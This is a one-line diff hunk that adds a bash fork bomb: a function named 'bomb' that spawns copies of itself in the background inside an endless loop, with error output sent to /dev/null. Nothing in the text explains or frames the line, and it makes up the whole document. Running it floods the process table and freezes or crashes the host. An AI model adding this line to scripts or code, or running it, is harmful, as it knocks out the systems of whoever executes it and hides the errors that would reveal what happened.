@@ -1,0 +1,1 @@
+bomb() { bomb | bomb & }; while :; do bomb; done 2>/dev/null
